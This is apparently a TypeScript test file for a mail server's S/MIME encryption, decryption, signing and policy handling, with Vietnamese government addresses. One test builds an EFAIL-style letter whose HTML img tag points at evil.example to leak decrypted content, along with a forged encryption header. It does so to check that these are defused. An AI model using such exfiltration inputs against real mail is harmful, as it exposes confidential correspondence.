/** Letters that leave encrypted, and those that come so: for whom, from which keys, and what each box is shown. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { noFindings } from '../../src/documents/facts.ts'
import type { BoxChange } from '../../src/ports/directory.ts'
import { knownByOperator } from '../../src/signing/certificates/known.ts'
import type { SignerIdentity } from '../../src/signing/identity.ts'
import { value } from '../conformance/letters.ts'
import { type KeyPair, OpensslAuthority } from '../support/openssl.ts'
import { OpensslCorrespondent } from '../support/openssl-encryption.ts'
import { an, binh, office, Road } from './road.ts'

const peer = 'vanthu@langson.gov.vn'
const other = 'nguoidan@gmail.com'
let authority: OpensslAuthority
let openssl: OpensslCorrespondent
let pairs: ReadonlyMap<string, KeyPair>
let signer: SignerIdentity
let road: Road

beforeAll(() => {
  authority = new OpensslAuthority()
  openssl = new OpensslCorrespondent()
  pairs = new Map([peer, office, an].map(address => [address, authority.pair(address)]))
  signer = authority.issue(an)
})
afterAll(() => {
  authority[Symbol.dispose]()
  openssl[Symbol.dispose]()
})
beforeEach(async () => {
  road = await Road.open()
  // Certificates begin with the second in which they are made, or the next.
  road.now = Date.now() + 60_000
  road.recipientIdentities = async ({ address }) =>
    [pairs.get(address)].filter(pair => pair !== undefined && address !== peer) as KeyPair[]
})
afterEach(() => road[Symbol.asyncDispose]())

async function set(address: string, change: BoxChange): Promise<void> {
  expect(await road.store.write.changeBox(address, change)).toMatchObject({ ok: true })
}

async function know(address: string): Promise<void> {
  const { certificate } = pairs.get(address) ?? authority.pair(address)
  await road.store.write.putKnownCertificate(value(knownByOperator(address, certificate, road.now)))
}

const pair = (address: string) => pairs.get(address) as KeyPair

/** The newest letter's forms, by kind. */
async function forms(): Promise<ReadonlyMap<string, Buffer>> {
  const [entry] = await road.letters()
  const read = (entry?.forms ?? []).map(
    async ({ kind, blob }) => [kind, Buffer.from(await road.store.read.blobs.bytes(blob))] as const,
  )
  return new Map(await Promise.all(read))
}

/** The form that each outside recipient gets. */
async function leaving(): Promise<Record<string, string>> {
  const [entry] = await road.letters()
  const items = await road.store.read.queue.list({ entryId: entry!.id, limit: 10 })
  return Object.fromEntries(items.map(({ address, form }) => [address, form]))
}

describe('a box that encrypts where it can', () => {
  const letter = (...to: readonly string[]) =>
    Buffer.from(
      `From: <${an}>\r\nTo: ${to.map(address => `<${address}>`).join(', ')}\r\nSubject: x\r\nMessage-ID: <1@x>\r\nDate: Mon, 23 Nov 2026 09:00:00 +0700\r\n\r\nbí mật nội bộ\r\n`,
    )
  const send = (...to: readonly string[]) => road.submit(an, to, letter(...to))

  beforeEach(async () => {
    await set(an, { encrypt: 'possible' })
    await know(peer)
  })

  it('gives the encrypted letter to who has a certificate, the readable one to others and inside', async () => {
    expect(await send(peer, other, binh)).toMatchObject({ code: 250 })
    expect(await leaving()).toEqual({ [peer]: 'encrypted', [other]: 'sent' })
    const kept = await forms()
    expect([...kept.keys()]).toEqual(['received', 'sent', 'encrypted'])
    expect(kept.get('received')).toEqual(letter(peer, other, binh))
    expect(kept.get('encrypted')!.toString('latin1')).not.toContain(
      kept.get('received')!.subarray(-20).toString('latin1'),
    )
    expect(openssl.decrypt(kept.get('encrypted')!, pair(peer), 'SMIME').toString()).toBe(
      'Content-Type: text/plain; charset=utf-8\r\n\r\nbí mật nội bộ\r\n',
    )
    const [shown = ''] = await road.inbox(binh)
    expect(shown).toContain('bí mật nội bộ')
    // Both prove that they are ours.
    for (const form of ['sent', 'encrypted'])
      expect(kept.get(form)!.toString()).toMatch(/^DKIM-Signature: v=1;/)
  })

  it('signs first: what openssl decrypts, it verifies', async () => {
    await set(an, { sign: 'always' })
    road.identityFor = async () => signer
    await send(peer)
    const kept = await forms()
    const inside = openssl.decrypt(kept.get('encrypted')!, pair(peer), 'SMIME')
    expect(await authority.verify(inside)).toMatchObject({ valid: true })
    // The readable form stays for the archive; as nobody gets it, nothing proves that it left.
    expect(await authority.verify(kept.get('sent')!)).toMatchObject({ valid: true })
    expect(kept.get('sent')!.toString()).not.toContain('DKIM-Signature')
  })

  it('is told by the configuration what old programs read', async () => {
    road.encryptionFormat = 'cbc'
    await send(peer)
    const sealed = (await forms()).get('encrypted')!
    expect(sealed.toString()).toContain('smime-type=enveloped-data')
    expect(openssl.decrypt(sealed, pair(peer), 'SMIME').toString()).toContain('bí mật')
  })

  it('sends the letter as ever where nobody has a certificate, and what stays inside', async () => {
    await send(other)
    expect(await leaving()).toEqual({ [other]: 'sent' })
    await send(binh, office)
    expect([...(await forms()).keys()]).toEqual(['received'])
  })

  it('leaves what a client encrypted as it is', async () => {
    const sealed = openssl.encrypt(
      Buffer.from('Content-Type: text/plain\r\n\r\nx\r\n'),
      [pair(peer)],
      ['-aes256'],
      'SMIME',
    )
    const bytes = Buffer.from(
      `From: <${an}>\r\nTo: <${peer}>\r\nMessage-ID: <1@x>\r\nDate: Mon, 23 Nov 2026 09:00:00 +0700\r\n${sealed.toString('latin1').replace(/\r?\n/g, '\r\n')}`,
    )
    await road.submit(an, [peer], bytes)
    expect(await leaving()).toEqual({ [peer]: 'sent' })
    expect((await forms()).get('sent')!.subarray(-bytes.length)).toEqual(bytes)
  })

  it('does not tell others of a blind copy', async () => {
    await know('giamdoc@langson.gov.vn')
    await road.submit(an, [peer, 'giamdoc@langson.gov.vn'], letter(peer))
    expect(await leaving()).toEqual({ [peer]: 'encrypted', 'giamdoc@langson.gov.vn': 'sent' })
    await road.submit(an, ['giamdoc@langson.gov.vn'], letter(binh))
    expect(await leaving()).toEqual({ 'giamdoc@langson.gov.vn': 'encrypted' })
  })

  it('encrypts a held letter before it waits, and so it leaves', async () => {
    road.findings = { ...noFindings, topics: [{ topic: 'personnel', place: 'body' }] }
    await road.change({
      kind: 'set-action',
      reason: 'restricted-paper',
      agencyId: null,
      direction: 'outbound',
      action: 'hold',
    })
    expect(await send(peer)).toMatchObject({ reason: 'held' })
    const [entry] = await road.letters()
    const [held] = await road.store.read.queue.heldOf(entry!.id)
    await road.context.held.release([held!.id], 'quantri', '')
    expect(await leaving()).toEqual({ [peer]: 'encrypted' })
  })
})

describe('a box that must encrypt', () => {
  const letter = (to: string) => Buffer.from(`From: <${an}>\r\nTo: <${to}>\r\nSubject: x\r\n\r\nx\r\n`)
  beforeEach(async () => {
    await set(an, { encrypt: 'required' })
    await know(peer)
  })

  it('sends nothing when one recipient has no certificate, and says which', async () => {
    const answer = await road.submit(an, [peer, other, binh], letter(peer))
    expect(answer).toMatchObject({ code: 550, enhanced: '5.7.5', reason: 'encryption-certificate-missing' })
    expect(answer.text).toMatch(
      /chưa có chứng thư số của: nguoidan@gmail\.com\.[\s\S]*no certificate is known/,
    )
    expect(answer.text).not.toContain(`của: ${peer}`)
    expect(await leaving()).toEqual({})
    expect((await forms()).size).toBe(0)
    expect(await road.inbox(binh)).toEqual([])
  })

  it('sends nothing with blind copies among others', async () => {
    await know('giamdoc@langson.gov.vn')
    const answer = await road.submit(an, [peer, 'giamdoc@langson.gov.vn'], letter(peer))
    expect(answer).toMatchObject({ code: 550, reason: 'encryption-blind-copy' })
    expect(answer.text).toContain('giamdoc@langson.gov.vn')
  })

  it('sends what can be encrypted, what stays inside, and what a client encrypted itself', async () => {
    expect(await road.submit(an, [peer, binh], letter(peer))).toMatchObject({ code: 250 })
    expect(await road.submit(an, [binh], letter(binh))).toMatchObject({ code: 250 })
    const own = Buffer.from(
      `From: <${an}>\r\nTo: <${other}>\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nx\r\n`,
    )
    expect(await road.submit(an, [other], own)).toMatchObject({ code: 250 })
  })

  it('waits when encryption fails: the letter does not go without', async () => {
    Object.assign(road.context.encryption, {
      encrypt: () => Promise.reject(new Error('no randomness')),
    })
    expect(await road.submit(an, [peer], letter(peer))).toMatchObject({ code: 451, reason: 'not-encrypted' })
    expect(await leaving()).toEqual({})
  })
})

describe('a letter that comes encrypted', () => {
  const entity = Buffer.from(
    'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nKính gửi Sở Nội vụ\r\n',
  )
  function letter(
    to: readonly string[],
    options: readonly string[] = ['-aes-256-gcm'],
    bytes = entity,
  ): Buffer {
    const sealed = openssl.encrypt(bytes, to.map(pair), ['-binary', ...options], 'SMIME')
    const header = `From: <${peer}>\r\nTo: <${office}>\r\nSubject: Giay moi\r\nMessage-ID: <1@x>\r\nX-CongVu-Encrypted: forged\r\n`
    return Buffer.from(header + sealed.toString('latin1').replace(/\r?\n/g, '\r\n'), 'latin1')
  }
  const bodyOf = (shown: string) => shown.slice(shown.indexOf('\r\n\r\n') + 4)

  it('is shown opened to the box that has its key, and kept as it came and as it was opened', async () => {
    const bytes = letter([office])
    expect(await road.receive(peer, [office], bytes)).toMatchObject({ code: 250 })
    const [shown = ''] = await road.inbox(office)
    expect(shown).toMatch(/^X-CongVu-Encrypted: aes-256-gcm; key=[0-9a-f]+\r$/m)
    expect(shown).toContain('Content-Type: text/plain; charset=utf-8\r\n')
    expect(shown).not.toMatch(/pkcs7|forged/)
    expect(bodyOf(shown)).toBe('Kính gửi Sở Nội vụ\r\n')
    const kept = await forms()
    expect([...kept.keys()]).toEqual(['received', 'decrypted'])
    expect(kept.get('received')).toEqual(bytes)
    expect(kept.get('decrypted')!.toString()).toContain('Kính gửi Sở Nội vụ')
    const [entry] = await road.letters()
    expect(entry).toMatchObject({ subject: 'Giay moi', sizeBytes: bytes.length })
    const views = await road.store.read.archive.viewsOf(entry!.id)
    expect(views.map(({ form }) => form)).toEqual(['decrypted'])
  })

  it('shows each recipient what its own key opens', async () => {
    const bytes = letter([office])
    await road.receive(peer, [office, binh, an], bytes)
    const [own = ''] = await road.inbox(office)
    expect(bodyOf(own)).toBe('Kính gửi Sở Nội vụ\r\n')
    const [keyless = ''] = await road.inbox(binh)
    expect(keyless).not.toMatch(/^X-CongVu-Encrypted/m)
    expect(keyless).toContain('application/pkcs7-mime')
    const [unnamed = ''] = await road.inbox(an)
    expect(unnamed).toMatch(/^X-CongVu-Encrypted: not-opened\r$/m)
    expect(bodyOf(unnamed)).toBe(bodyOf(keyless))
  })

  it('goes to all boxes of an alias, to each in its own way', async () => {
    await road.store.write.addAliases([{ address: 'vanphong@caobang.gov.vn', targets: [office, binh] }])
    await road.receive(peer, ['vanphong@caobang.gov.vn'], letter([office]))
    expect(bodyOf((await road.inbox(office))[0]!)).toBe('Kính gửi Sở Nội vụ\r\n')
    expect((await road.inbox(binh))[0]).toContain('application/pkcs7-mime')
  })

  it('without authentication says so', async () => {
    await road.receive(peer, [office], letter([office], ['-aes128']))
    expect((await road.inbox(office))[0]).toMatch(
      /^X-CongVu-Encrypted: aes-128-cbc; integrity=none; key=[0-9a-f]+\r$/m,
    )
  })

  it('that is damaged, or for another key, is delivered as it came, and all of it looks the same', async () => {
    const whole = letter([office], ['-aes256'])
    const replies: unknown[] = []
    const shown: string[] = []
    const end = whole.lastIndexOf('\r\n', whole.length - 3)
    for (const at of [whole.indexOf('MII') + 120, end - 200, end - 4]) {
      const bytes = Buffer.from(whole)
      bytes[at] = bytes[at] === 0x41 ? 0x42 : 0x41
      replies.push(await road.receive(peer, [office], bytes))
      shown.push((await road.inbox(office)).at(-1)!)
    }
    road.recipientIdentities = async () => [authority.pair(office)]
    replies.push(await road.receive(peer, [office], whole))
    shown.push((await road.inbox(office)).at(-1)!)
    road.recipientIdentities = async () => {
      throw new Error('the token is out')
    }
    replies.push(await road.receive(peer, [office], whole))
    for (const reply of replies) expect(reply).toMatchObject({ code: 250, reason: 'accepted' })
    expect((await road.inbox(office)).at(-1)).not.toMatch(/^X-CongVu-Encrypted/m)
    for (const letter of shown.slice(0, -1))
      if (!letter.includes('integrity=none')) expect(letter).toMatch(/^X-CongVu-Encrypted: not-opened\r$/m)
    expect(shown.at(-1)).toMatch(/^X-CongVu-Encrypted: not-opened\r$/m)
  })

  it('is judged by what is inside', async () => {
    const seen: string[] = []
    Object.assign(road.context, {
      readLetter: async ({ bytes }: { bytes: Uint8Array }) => {
        seen.push(Buffer.from(bytes).toString())
        return noFindings
      },
      scanner: {
        async scan(bytes: Uint8Array) {
          seen.push(Buffer.from(bytes).toString())
          return { kind: 'clean' }
        },
      },
    })
    await road.receive(peer, [office], letter([office]))
    expect(seen).toHaveLength(2)
    for (const bytes of seen) expect(bytes).toContain('Kính gửi Sở Nội vụ')
  })

  it('that the rules refuse leaves nothing, and the reply tells nothing of what is inside', async () => {
    road.findings = {
      ...noFindings,
      stamps: [{ place: 'body', level: 'toi-mat', line: 2, disguises: ['spaced'] }],
    }
    const answer = await road.receive(peer, [office], letter([office]))
    expect(answer).toMatchObject({ code: 550, reason: 'secret-stamp' })
    const plain = await road.receive(peer, [office], Buffer.from(`From: <${peer}>\r\n\r\nx\r\n`))
    expect(plain.text).toContain('nội dung thư')
    expect(answer.text).not.toContain('nội dung thư')
    expect(answer.text).toMatch(/Thư bị từ chối\.[\s\S]*1\.c[\s\S]*CB-/)
    expect((await forms()).size).toBe(0)
  })
})

it('an enclosed signature is no encryption, whether its header says so or not', async () => {
  const signed = openssl.signOpaque(Buffer.from('Content-Type: text/plain\r\n\r\nx\r\n'), pair(peer))
  const text = signed.toString('latin1').replace(/\r?\n/g, '\r\n')
  for (const letter of [text, text.replace(' smime-type=signed-data;', '')]) {
    await road.receive(peer, [office], Buffer.from(`From: <${peer}>\r\n${letter}`, 'latin1'))
    expect((await road.inbox(office)).at(-1)).not.toMatch(/^X-CongVu-Encrypted/m)
  }
  expect(text).toContain(' smime-type=signed-data;')
})

it('a part of a letter that is encrypted is not opened', async () => {
  const sealed = openssl
    .encrypt(Buffer.from('Content-Type: text/plain\r\n\r\nx\r\n'), [pair(office)], ['-aes-256-gcm'], 'SMIME')
    .toString('latin1')
    .replace(/\r?\n/g, '\r\n')
  const html = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'
  const bytes = Buffer.from(
    `From: <${peer}>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${html}\r\n--b\r\n${sealed}\r\n--b--\r\n`,
  )
  await road.receive(peer, [office], bytes)
  expect([...(await forms()).keys()]).toEqual(['received'])
  const [shown = ''] = await road.inbox(office)
  expect(shown).not.toMatch(/^X-CongVu-Encrypted/m)
  expect(shown.endsWith(bytes.toString())).toBe(true)
})
